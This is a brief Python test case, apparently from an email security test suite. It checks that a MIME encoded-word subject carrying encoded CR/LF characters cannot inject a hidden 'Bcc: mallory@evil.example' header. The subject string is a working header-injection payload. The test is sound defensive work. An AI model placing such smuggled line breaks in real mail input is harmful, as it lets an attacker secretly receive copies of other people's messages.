"""Mallory wants a line end inside an encoded word to begin a field of its own wherever the subject is shown or copied."""

from case import attack
from generators import mail as m

expect = attack(untold=["\\r", "\\n", "Bcc: mallory@evil.example\n"])


def mail():
    return m.header(subject="=?utf-8?Q?Angebot=0D=0ABcc:_mallory@evil.example=0D=0A?=") + m.text()
